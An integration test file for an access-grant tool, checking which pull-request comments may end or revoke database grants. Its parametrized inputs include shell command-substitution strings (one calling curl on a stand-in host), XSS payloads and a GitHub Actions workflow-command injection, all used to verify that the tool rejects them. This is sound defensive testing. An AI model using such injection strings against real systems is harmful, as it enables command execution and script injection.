"""Comments on pull requests: whose word ends a grant, and what hostile ones come to."""

from __future__ import annotations

import json
import time
from typing import TYPE_CHECKING

import psycopg
import pytest
from command_runs import grant_all

from daypass.sandbox.github.state import Comment
from daypass.sandbox.organisation import request
from support import acting
from support.town import Asked

if TYPE_CHECKING:
    from command_runs import Commands

pytestmark = pytest.mark.integration
REVOKERS = ("bob", "dave", "carol")  # an approver, the business owner, an owner of the foundation


@pytest.fixture(scope="module")
def granted(commands: Commands) -> dict[str, Asked]:
    """One grant a test, issued together; `kept` is what nobody must be able to end."""
    names = ["kept", "finished", "twice", "taken-back", "again", "teams-down", "order", "quick"]
    return grant_all(commands.town, [*names, *(f"by-{name}" for name in REVOKERS)])


def lives(commands: Commands, name: str) -> bool:
    return len(commands.town.live_tokens(name)) == 1


# What does nothing.


@pytest.mark.parametrize(
    ("who", "words"),
    [
        ("mallory", "/done kept"),
        ("mallory", "/done"),
        ("mallory", "/revoke kept"),
        ("mallory", "/redeliver kept"),
        ("bob", "/done kept"),
        ("bob", "/redeliver kept"),
        ("carol", "/redeliver kept"),
        ("alice", "/done no-such-grant"),
        ("alice", "/revoke other-repositorys"),
    ],
)
def test_a_word_that_does_not_count_is_answered_and_does_nothing(
    who: str, words: str, commands: Commands, granted: dict[str, Asked]
) -> None:
    written = commands.comment(who, granted["kept"].number, words)
    assert written.run.code == 0, written.run.said
    assert commands.result(written) == "refused"
    assert lives(commands, "kept")
    assert "kept" not in commands.intents()


@pytest.mark.parametrize(
    "body",
    [
        "/done kept $(touch hacked)",
        "/done $(curl evil.example)",
        "/done kept`id`",
        "> /done kept",
        "I would never say\n/done kept",
        "/done kept @acme/security <img src=x onerror=alert(1)>",
        "::set-output name=x::/done kept",
        "/done ../kept",
        "/halt --type human",
        "<!-- daypass:command:1 -->\n/done kept",
        "/done kept\u2028/revoke finished",
    ],
)
def test_what_is_no_command_sets_nothing_off(
    body: str, commands: Commands, granted: dict[str, Asked]
) -> None:
    written = commands.comment("alice", granted["kept"].number, body)
    assert written.run.code == 0
    assert written.run.stdout == "no command\n"
    assert commands.answers(written) == []
    assert lives(commands, "kept")
    assert commands.intents() == {}


def test_nothing_that_a_person_wrote_comes_back(
    commands: Commands, granted: dict[str, Asked]
) -> None:
    hostile = "@acme/security\n::error::x\n<script>alert(1)</script>\n[x](http://evil) $(id)"
    written = commands.comment("mallory", granted["kept"].number, f"/revoke kept\n{hostile}")
    (answer,) = commands.answers(written)
    for text in (answer, written.run.said):
        assert not [word for word in ("@", "script", "evil", "$(", "::") if word in text]


def test_a_grant_is_ended_on_its_own_pull_request_only(
    commands: Commands, granted: dict[str, Asked]
) -> None:
    written = commands.comment("alice", granted["finished"].number, "/done kept")
    assert commands.result(written) == "refused"
    assert f"pull request {granted['kept'].number}" in commands.answers(written)[0]
    assert lives(commands, "kept")


def test_a_bots_comment_is_nobodys_word(commands: Commands, granted: dict[str, Asked]) -> None:
    box = commands.box
    now = box.repository.comments[box.person("alice").comment(granted["kept"].number, "hi")]
    number, bot = now.number, box.github.app.bot
    comment = Comment(now.id + 1, number, bot, "/done kept", now.created_at, now.updated_at)
    box.repository.comments[comment.id] = comment
    done = commands.run_comment(comment.id)
    assert done.code == 0
    assert json.loads(done.stdout)["answers"] == []
    assert lives(commands, "kept")


@pytest.mark.parametrize(
    ("later", "event"),
    [(0.0, "/done finished"), (1.1, "/done kept")],
    ids=["within-its-second", "whatever-the-event-says"],
)
def test_a_comment_that_somebody_edited_counts_for_nothing(
    later: float, event: str, commands: Commands, granted: dict[str, Asked]
) -> None:
    """Mallory, who has write access, edits what alice wrote before the job reads it."""
    alice, mallory = commands.box.person("alice"), commands.box.person("mallory")
    comment_id = alice.comment(granted["kept"].number, "/done finished")
    time.sleep(later)
    path = f"/repos/{commands.box.repository.full_name}/issues/comments/{comment_id}"
    mallory.api("PATCH", path, {"body": "/done kept"})
    done = commands.run_comment(comment_id, body=event)
    assert json.loads(done.stdout)["answers"][0]["result"] == "refused"
    assert "edited" in done.stdout
    assert lives(commands, "kept")
    assert lives(commands, "finished")


def test_a_comment_that_was_deleted_counts_for_nothing(
    commands: Commands, granted: dict[str, Asked]
) -> None:
    alice = commands.box.person("alice")
    comment_id = alice.comment(granted["kept"].number, "/done kept")
    comment = commands.box.repository.comments[comment_id]
    path = f"/repos/{commands.box.repository.full_name}/issues/comments/{comment_id}"
    alice.api("DELETE", path)
    payload = {
        "issue": {"number": comment.number, "pull_request": {}},
        "comment": {"id": comment_id, "body": "/done kept"},
    }
    done = commands._run("issue_comment", payload, comment.author, 1)
    assert done.code == 0
    assert json.loads(done.stdout)["answers"] == []
    assert lives(commands, "kept")


def test_a_team_that_cannot_be_asked_bars_only_those_who_depend_on_it(
    commands: Commands, granted: dict[str, Asked]
) -> None:
    number = granted["teams-down"].number
    commands.box.github.fail_next("GET", r"/teams?/", 502, 200)
    try:
        refused = commands.comment("bob", number, "/revoke teams-down")
        assert commands.result(refused) == "refused"
        assert "Try again" in commands.answers(refused)[0]
        assert lives(commands, "teams-down")
        assert commands.result(commands.comment("alice", number, "/done teams-down")) == "ending"
    finally:
        commands.box.github.heal()
    assert not lives(commands, "teams-down")


def test_what_is_merged_and_not_yet_issued_is_no_grant(commands: Commands) -> None:
    asked = commands.town.grant("not-yet", duration="1h")
    written = commands.comment("alice", asked.number, "/done not-yet")
    assert commands.result(written) == "refused"
    assert "not yet issued" in commands.answers(written)[0]
    assert "not-yet" not in commands.intents()


# What ends a grant.


def test_done_ends_sessions_at_once_and_the_next_run_writes_the_evidence(
    commands: Commands, granted: dict[str, Asked]
) -> None:
    town, asked = commands.town, granted["finished"]
    session = town.log_in(town.credential(asked)["credential"])
    session.execute("select count(*) from orders")
    written = commands.comment("alice", asked.number, "/done finished\nthank you")
    assert commands.result(written) == "ending"
    with pytest.raises(psycopg.OperationalError):
        session.execute("select 1")
    session.close()
    assert not [name for name in commands.box.postgres.roles() if "finished" in name]
    answer = commands.answers(written)[0]
    assert "the evidence" in answer
    assert "revoked" not in answer.lower()
    assert commands.intents()["finished"]["accountId"] == commands.box.accounts["alice"].id
    assert town.events("finished") == ["issued"]

    assert town.apply().code == 0
    assert town.events("finished") == ["issued", "revoked"]
    told = town.message("finished", "revoked")
    assert "Daypass-Reason: done" in told
    assert "\nDaypass-Asked-At: 20" in told
    assert "finished" not in commands.intents()
    late = commands.comment("alice", asked.number, "/done finished")
    assert "no live grant" in commands.answers(late)[0]
    assert town.verify().code == 0


def test_the_intent_is_in_vault_before_anything_is_revoked(
    commands: Commands, granted: dict[str, Asked]
) -> None:
    log = commands.box.bao.audit_log
    before = log.stat().st_size
    commands.comment("alice", granted["order"].number, "/done order")
    with log.open() as stream:
        stream.seek(before)
        entries = [json.loads(line) for line in stream]
    asked = [
        (entry["request"]["operation"], entry["request"]["path"])
        for entry in entries
        if entry["type"] == "request"
    ]
    noted = asked.index(("create", "daypass/data/daypass/intents/order"))
    revoked = asked.index(("update", "auth/token/revoke-accessor"))
    assert noted < revoked
    assert ("update", "auth/token/lookup-accessor") in asked[revoked:]


def test_a_run_that_is_run_again_says_and_does_nothing_more(
    commands: Commands, granted: dict[str, Asked]
) -> None:
    written = commands.comment("alice", granted["twice"].number, "/done")
    assert commands.result(written) == "ending"
    answers = commands.answers(written)
    noted = commands.intents()["twice"]
    again = commands.run_comment(written.id, attempt=2)
    assert again.code == 0
    assert json.loads(again.stdout) == {"answers": [], "followUp": None}
    assert commands.answers(written) == answers
    assert commands.intents()["twice"] == noted


def test_a_run_that_was_killed_after_it_revoked_is_finished_by_its_repetition(
    commands: Commands, granted: dict[str, Asked]
) -> None:
    asked = granted["taken-back"]
    written = commands.comment("alice", asked.number, "/done taken-back")
    for comment in list(commands.box.repository.comments.values()):
        if f"daypass:command:{written.id} " in comment.body:
            del commands.box.repository.comments[comment.id]  # it did not get to its answer
    assert commands.answers(written) == []
    commands.run_comment(written.id, attempt=2)
    assert commands.result(written) == "ending"


@pytest.mark.parametrize("who", REVOKERS)
def test_owners_and_approvers_may_revoke(
    who: str, commands: Commands, granted: dict[str, Asked]
) -> None:
    name = f"by-{who}"
    assert commands.result(commands.comment(who, granted[name].number, f"/revoke {name}")) == (
        "ending"
    )
    assert not lives(commands, name)


def test_the_evidence_of_a_revocation_says_that_it_was_by_hand(
    commands: Commands, granted: dict[str, Asked]
) -> None:
    assert granted
    town = commands.town
    assert town.apply().code == 0
    for who in REVOKERS:
        assert "Daypass-Reason: revoked-by-hand" in town.message(f"by-{who}", "revoked")
    assert town.events("kept") == ["issued"]
    assert commands.intents() == {}
    assert town.verify().code == 0


def test_redeliver_leaves_the_rest_to_the_next_run(
    commands: Commands, granted: dict[str, Asked]
) -> None:
    town, asked = commands.town, granted["again"]
    old = town.live_tokens("again")
    written = commands.comment("alice", asked.number, "/redeliver again")
    assert commands.result(written) == "noted"
    assert town.live_tokens("again") == old
    assert commands.intents()["again"]["kind"] == "redeliver"
    assert town.apply().code == 0
    assert town.events("again") == ["issued", "delivered-again"]
    # What was delivered again can be ended as well.
    assert commands.result(commands.comment("alice", asked.number, "/done again")) == "ending"
    assert not town.live_tokens("again")
    assert town.apply().code == 0
    assert town.verify().code == 0


def test_revoke_beats_redeliver(commands: Commands, granted: dict[str, Asked]) -> None:
    number = granted["quick"].number
    for words in ("/redeliver quick", "/revoke quick", "/redeliver quick"):
        commands.comment("alice", number, words)
    assert commands.intents()["quick"]["kind"] == "revoke"
    assert commands.town.apply().code == 0
    assert commands.town.events("quick") == ["issued", "revoked"]


def test_done_alone_means_the_only_live_grant_of_its_pull_request(commands: Commands) -> None:
    alice = commands.box.person("alice")
    files = request("pair-one", duration="1h") | request("pair-two", duration="1h")
    pair = Asked("pair-one", alice.propose("pair", files, "Two at once"), alice)
    commands.town.merge(pair)
    assert commands.town.apply().code == 0
    vague = commands.comment("alice", pair.number, "/done")
    assert commands.result(vague) == "refused"
    assert "2 grants" in commands.answers(vague)[0]
    assert commands.result(commands.comment("alice", pair.number, "/done pair-one")) == "ending"
    assert commands.town.apply().code == 0
    assert commands.result(commands.comment("alice", pair.number, "/done")) == "ending"
    assert not commands.town.live_tokens("pair-two")


def test_what_an_ended_grant_was_used_for_is_put_on_record_once(commands: Commands) -> None:
    town, dave = commands.town, commands.box.person("dave")
    asked, other = grant_all(town, ["used", "unused"]).values()
    words = f"/activity used sha256:{'0' * 64} 1 -"
    logs = ("--vault-log", str(commands.box.bao.audit_log))
    logs += ("--postgres-log", str(commands.box.postgres.log))
    activity = ("audit", "activity", "used", *logs, "--record", "--format", "json")
    dave.git("pull", "-q", "--ff-only")
    early = acting.daypass(dave, *activity)
    assert early.code == 2
    assert "has not ended" in early.stderr
    assert commands.result(commands.comment("dave", asked.number, words)) == "refused"

    commands.comment("alice", asked.number, "/done used")
    assert town.apply().code == 0
    for who in ("alice", "mallory"):  # its holder, and a stranger
        assert commands.result(commands.comment(who, asked.number, words)) == "refused"
    assert commands.result(commands.comment("dave", other.number, words)) == "refused"
    assert commands.intents() == {}

    dave.git("pull", "-q", "--ff-only")
    with commands.watching():
        done = acting.daypass(dave, *activity)
    assert done.code == 0, done.said
    told = done.json()
    noted = commands.intents()["used"]["usage"]
    counts = {name: told[name]["tied"] for name in ("vault", "postgres")}
    assert noted == {"digest": told["digest"], **counts}
    assert counts["vault"] > 0
    assert town.apply().code == 0
    again = f"/activity used {told['digest']} {counts['vault']} {counts['postgres']}"
    assert commands.result(commands.comment("dave", asked.number, again)) == "noted"
    assert town.apply().code == 0
    assert town.events("used") == ["issued", "revoked", "session"]
    assert commands.intents() == {}
    message = town.message("used", "session")
    assert f"Daypass-Session: {told['digest']}" in message
    assert f"Account {dave.account.id} read the servers' logs" in message
    assert f"Vault's audit log: {counts['vault']} that belong to it" in message
    verified = town.verify()
    assert verified.code == 0, verified.said


def test_evidence_follows_at_once_where_the_app_may_dispatch(commands: Commands) -> None:
    permissions = commands.box.github.app.permissions
    asked = grant_all(commands.town, ["followed"])["followed"]
    permissions["actions"] = "write"
    try:
        written = commands.comment("alice", asked.number, "/done")
    finally:
        del permissions["actions"]
    assert "asked for a run of access-apply" in json.loads(written.run.stdout)["followUp"]
    (dispatch,) = commands.box.repository.dispatches
    assert (dispatch.workflow, dispatch.ref) == ("access-apply.yml", "main")
    assert dispatch.actor is commands.box.github.app.bot


def test_broken_documents_on_main_keep_nobody_from_ending_access(commands: Commands) -> None:
    town = commands.town
    asked = grant_all(town, ["while-broken"])["while-broken"]
    policy = "access/policies/databases.yaml"
    good = town.store.git("show", f"main:{policy}").encode()
    town.push_straight({policy: b"not: a policy\n"})
    assert commands.result(commands.comment("alice", asked.number, "/done while-broken")) == (
        "ending"
    )
    assert not town.live_tokens("while-broken")
    town.push_straight({policy: good})
